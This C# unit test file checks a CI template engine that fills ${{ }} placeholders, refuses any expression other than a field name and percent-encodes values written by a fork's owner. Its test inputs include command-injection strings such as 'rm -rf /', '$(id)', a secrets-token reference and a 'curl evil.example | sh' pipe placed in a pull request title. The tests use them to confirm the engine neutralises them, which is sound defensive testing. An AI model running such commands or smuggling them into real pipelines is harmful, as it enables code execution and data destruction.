using Switchyard.Rules;
using Xunit;

namespace Switchyard.Tests.Rules;

public sealed class TemplateTests
{
    [Theory]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    [InlineData("${{ source.full_name }}", "acme/the-app")]
    [InlineData("${{source.owner}}/${{  source.name  }}!", "acme/the-app!")]
    [InlineData("${{ signal.short_sha }}", "4f1c9aa")]
    [InlineData("${{ signal.occurred_at }}", "2026-11-21T12:00:00Z")]
    [InlineData("${{ signal.title }}|", "|")]
    [InlineData("${{ rule.name }} ${{ dispatch.id }} ${{ batch.count }}", "tests d-1 1")]
    [InlineData("$ { { } } ${ {x} } $${", "$ { { } } ${ {x} } $${")]
    [InlineData("}} ${{ signal.kind }} }}", "}} push }}")]
    public void Fields_are_filled_in_and_the_rest_stays(string text, string expected) =>
        Assert.Equal(expected, Template.Parse(text).Render(Values(Facts.Push())));

    [Theory]
    [InlineData("${{ signal.sha")]
    [InlineData("${{ }}")]
    [InlineData("${{ ${{ signal.sha }} }}")]
    [InlineData("${{ toJSON(signal) }}")]
    [InlineData("${{ signal['sha'] }}")]
    [InlineData("${{ signal.sha || 'x' }}")]
    [InlineData("${{ signal.sha; rm -rf / }}")]
    [InlineData("${{ signal.__proto__ }}")]
    [InlineData("${{ signal..sha }}")]
    [InlineData("${{ .sha }}")]
    [InlineData("${{ signal. sha }}")]
    [InlineData("${{ secrets.GITHUB_TOKEN }}")]
    [InlineData("${{ signal.inputs. }}")]
    [InlineData("${{ signal.inputs.a.b }}")]
    [InlineData("${{ signal\n.sha }}")]
    [InlineData("${{ signal.shа }}")]
    public void Anything_but_the_name_of_a_field_is_refused(string text)
    {
        Assert.Null(Template.TryParse(text, out var problems));
        Assert.NotEmpty(problems);
        Assert.Throws<FormatException>(() => Template.Parse(text));
    }

    [Fact]
    public void A_value_that_looks_like_a_placeholder_is_not_read_again()
    {
        var facts = Facts.Push(branch: "${{ source.owner }}");

        Assert.Equal("${{ source.owner }} acme", Template.Parse("${{ signal.branch }} ${{ source.owner }}").Render(Values(facts)));
    }

    [Fact]
    public void What_a_forks_owner_writes_is_percent_encoded_and_nothing_else()
    {
        var hostile = Facts.PullRequest(pull => pull with
        {
            FromFork = true,
            Title = "\"; curl evil.example | sh #\n$(id)",
            HeadRef = "fix/$(id)`x`",
            HeadRepository = "evil/the-app",
        });

        Assert.Equal("%22%3B%20curl%20evil.example%20%7C%20sh%20%23%0A%24%28id%29", Render("${{ signal.title }}", hostile));
        Assert.Equal("fix%2F%24%28id%29%60x%60", Render("${{ signal.head_ref }}", hostile));
        Assert.Equal("evil%2Fthe-app", Render("${{ signal.head_repository }}", hostile));
        Assert.Equal("main", Render("${{ signal.branch }}", hostile with { Branch = "main" }));
        Assert.Equal("release/1", Render("${{ signal.branch }}", hostile with { Branch = "release/1", PullRequest = hostile.PullRequest! with { BaseRef = "release/1" } }));
        Assert.Equal("x%2Fy", Render("${{ signal.branch }}", hostile with { Branch = "x/y" }));
        Assert.Equal("acme/the-app", Render("${{ source.full_name }}", hostile));
        Assert.Equal("\"; curl", Render("${{ signal.title }}", Facts.PullRequest(pull => pull with { Title = "\"; curl" })));
        Assert.DoesNotContain("$(id)", Template.Parse("${{ batch.sources }}").RenderJson(Values(hostile with { Branch = "$(id)" }))!.ToJsonString(), StringComparison.Ordinal);
    }

    [Fact]
    public void A_placeholder_alone_keeps_its_structure_in_a_payload()
    {
        var batch = new[] { Facts.Push("acme/a"), Facts.PullRequest() };
        var values = new Placeholders(batch[1], "tests", "d-1", batch);

        Assert.Equal(
            $$"""[{"repository":"acme/a","sha":"{{Facts.Sha}}","ref":"refs/heads/main","branch":"main","url":"https://github.com/acme/a/commit/{{Facts.Sha}}"},{"repository":"acme/the-app","sha":"{{Facts.Sha}}","ref":"refs/pull/7/head","branch":"main","url":"https://github.com/acme/the-app/commit/{{Facts.Sha}}","number":7}]""",
            Template.Parse("${{ batch.sources }}").RenderJson(values)!.ToJsonString());
        Assert.Equal("2", Template.Parse("${{ batch.count }}").RenderJson(values)!.ToJsonString());
        Assert.Equal("5", Template.Parse("${{ batch.count }}").RenderJson(new Placeholders(batch[1], "tests", "d-1", batch, 5))!.ToJsonString());
        Assert.Equal("\"2 of\"", Template.Parse("${{ batch.count }} of").RenderJson(values)!.ToJsonString());
        Assert.Null(Template.Parse("${{ signal.tag }}").RenderJson(values));
        Assert.StartsWith("in [{", Template.Parse("in ${{ batch.sources }}").Render(values), StringComparison.Ordinal);
    }

    [Fact]
    public void Every_field_of_the_table_has_a_value_for_some_signal()
    {
        var signals = new[]
        {
            Facts.PullRequest() with { Before = "1" }, Facts.Tag("v1"), Facts.Model(), Facts.Checks("success"),
            Facts.Registry() with { Id = "s-1", Registry = Facts.Registry().Registry! with { Stage = "Production", RunId = "r" } },
            Facts.Manual("acme/x"),
        };

        Assert.All(PlaceholderFields.All, field =>
        {
            var name = field.Name.Replace("*", "reason", StringComparison.Ordinal);
            Assert.Same(field, PlaceholderFields.Find(name));
            Assert.Contains(signals.Where(signal => field.Kinds.Count == 0 || field.Kinds.Contains(signal.Kind)), signal => Values(signal).Text(name).Length > 0);
        });
    }

    [Fact]
    public void Facts_come_back_from_json_as_they_were_and_unknown_members_are_passed_over()
    {
        foreach (var facts in new[] { Facts.Push(paths: ["a"]), Facts.PullRequest(), Facts.Release("v1"), Facts.Checks("failure", ("a", "failure")), Facts.Model(), Facts.Registry(), Facts.Schedule("* * * * *"), Facts.Manual("acme/x") })
        {
            var json = facts.ToJson();
            Assert.Equal(json, SignalFacts.FromJson(json).ToJson());
            Assert.Equal(json, SignalFacts.FromJson("{\"of_next_year\":{\"a\":[1]}," + json[1..]).ToJson());
        }

        Assert.Equal("""{"kind":"push","occurred_at":"2026-11-21T12:00:00+00:00"}""", new SignalFacts { Kind = "push", OccurredAt = Facts.Noon }.ToJson());
        Assert.Null(SignalFacts.FromJson("""{"kind":"push"}""").Paths);
    }

    private static string Render(string text, SignalFacts facts) => Template.Parse(text).Render(Values(facts));

    private static Placeholders Values(SignalFacts facts) => new(facts, "tests", "d-1");
}
